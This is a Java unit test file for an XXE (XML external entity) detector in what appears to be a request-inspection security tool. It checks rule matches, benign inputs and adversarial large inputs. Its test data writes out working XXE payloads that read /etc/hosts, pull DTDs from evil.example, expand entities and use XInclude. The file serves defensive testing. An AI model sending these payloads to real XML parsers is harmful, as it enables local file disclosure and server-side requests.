package dev.warden.detect.xxe;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import dev.warden.detect.Finding;
import dev.warden.extract.Input;
import dev.warden.extract.Source;
import java.time.Duration;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class XxeDetectorTest {

  private final XxeDetector detector = new XxeDetector();

  private Optional<Finding> inspect(String text) {
    return detector.inspect(Input.value(Source.BODY, "body", text));
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        Arguments.of("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><r>&x;</r>",
            "external-entity"),
        Arguments.of("<!doctype r [ <!entity  x   public \"-//A//B\" \"http://internal.example/\"> ]>", "external-entity"),
        Arguments.of("<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/e.dtd\"> %p;]>", "parameter-entity"),
        Arguments.of("<!DOCTYPE r [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><r>&b;</r>", "entity-expansion"),
        Arguments.of("<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>", "external-dtd"),
        Arguments.of("<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/hosts\"/></r>",
            "xinclude"),
        Arguments.of("<foo><![CDATA[<!DOCTYPE d [<!ENTITY % e SYSTEM \"http://x.example/\">]>]]></foo>",
            "parameter-entity"));
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void inspect_dtdAttack_firesExpectedRule(String payload, String rule) {
    assertThat(inspect(payload)).get().extracting(Finding::rule).isEqualTo(rule);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>42</id><note>fragile &amp; heavy</note></order>",
    "<!DOCTYPE html><html><body>hi</body></html>",
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
        + "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
    "Request Entity Too Large",
    "The ENTITY keyword declares an entity in a DTD.",
    "<!-- just a comment -->",
    "a <! b",
    ""
  })
  void inspect_benignXmlAndText_passes(String text) {
    assertThat(inspect(text)).isEmpty();
  }

  static Stream<String> hostile() {
    int mb = 1 << 20;
    return Stream.of("<!ENTITY ".repeat(mb / 9), "<!DOCTYPE x SYSTEM '".repeat(mb / 20), "<".repeat(mb),
        "<!DOCTYPE x PUBLIC \"".repeat(mb / 20), "h".repeat(mb), "\uDFFF".repeat(mb));
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void inspect_adversarialMegabyte_staysBoundedAndNeverThrows(String text) {
    long start = System.nanoTime();
    assertThatCode(() -> inspect(text)).doesNotThrowAnyException();
    assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(2));
  }

  @Test
  void inspect_garbage_neverThrows() {
    for (String s : new String[] {"", "<", "<!", "<!ENTITY", "<!ENTITY %", "<!DOCTYPE", "<!DOCTYPE x PUBLIC '", "\0"}) {
      assertThatCode(() -> inspect(s)).doesNotThrowAnyException();
    }
  }

  @Test
  void id_isXxe() {
    assertThat(detector.id()).isEqualTo("xxe");
  }
}
